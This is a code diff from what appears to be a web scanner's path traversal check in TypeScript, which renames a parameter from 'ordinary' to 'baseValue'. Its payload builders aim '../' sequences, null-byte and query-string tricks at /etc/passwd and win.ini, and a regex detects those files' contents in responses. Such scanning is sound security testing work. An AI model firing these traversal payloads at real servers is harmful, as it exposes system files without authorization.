@@ -32,12 +32,12 @@ export default defineInjection({
     reading((up) => `${up.replaceAll("../", "..\\")}windows\\win.ini`, { deep: "likely" }),
     reading((up) => `${up.replaceAll("../", "..;/")}etc/passwd`, { deep: "likely" }),
     // Behind the directory, before the extension, that the value must have.
-    reading((up, ordinary) => `${directoryOf(ordinary)}${up}etc/passwd`, {
+    reading((up, baseValue) => `${directoryOf(baseValue)}${up}etc/passwd`, {
       deep: "likely",
       where: hasDirectory,
     }),
-    reading((up, ordinary) => `${up}etc/passwd\0${extensionOf(ordinary)}`, { deep: "likely" }),
-    reading((up, ordinary) => `${up}etc/passwd?${extensionOf(ordinary)}`, {
+    reading((up, baseValue) => `${up}etc/passwd\0${extensionOf(baseValue)}`, { deep: "likely" }),
+    reading((up, baseValue) => `${up}etc/passwd?${extensionOf(baseValue)}`, {
       deep: "likely",
       where: hasExtension,
     }),
@@ -51,10 +51,10 @@ const CONTENT = /\broot:[^:\s]{0,20}:0:0:|; for 16-bit app support|\[mci extensi
 const UP = "../".repeat(8);
 
 /** A file of the operating system by this path; the control is one of a random name in the same directory. */
-function reading(path: (up: string, ordinary: string) => string, options: Partial<Attempt> = {}): Attempt {
+function reading(path: (up: string, baseValue: string) => string, options: Partial<Attempt> = {}): Attempt {
   return {
-    payload: ({ ordinary }) => path(UP, ordinary),
-    control: ({ ordinary, nonce }) => path(UP, ordinary).replace(/passwd|win\.ini/, nonce),
+    payload: ({ baseValue }) => path(UP, baseValue),
+    control: ({ baseValue, nonce }) => path(UP, baseValue).replace(/passwd|win\.ini/, nonce),
     proof: ({ body }) =>
       CONTENT.test(body.slice(0, 262_144))
         ? "The content of an operating system file was in the response."
@@ -65,11 +65,11 @@ function reading(path: (up: string, ordinary: string) => string, options: Partia
 
 const directoryOf = (value: string): string => /^.*\//.exec(value)?.[0] ?? "";
 const extensionOf = (value: string): string => /\.[a-z\d]{1,5}$/i.exec(value)?.[0] ?? ".png";
-function hasDirectory({ ordinary }: Point): boolean {
-  return directoryOf(ordinary) !== "";
+function hasDirectory({ baseValue }: Point): boolean {
+  return directoryOf(baseValue) !== "";
 }
-function hasExtension({ ordinary }: Point): boolean {
-  return /\.[a-z\d]{1,5}$/i.test(ordinary);
+function hasExtension({ baseValue }: Point): boolean {
+  return /\.[a-z\d]{1,5}$/i.test(baseValue);
 }
 
 const namesFile = ({ name, sample }: Parameter): boolean =>
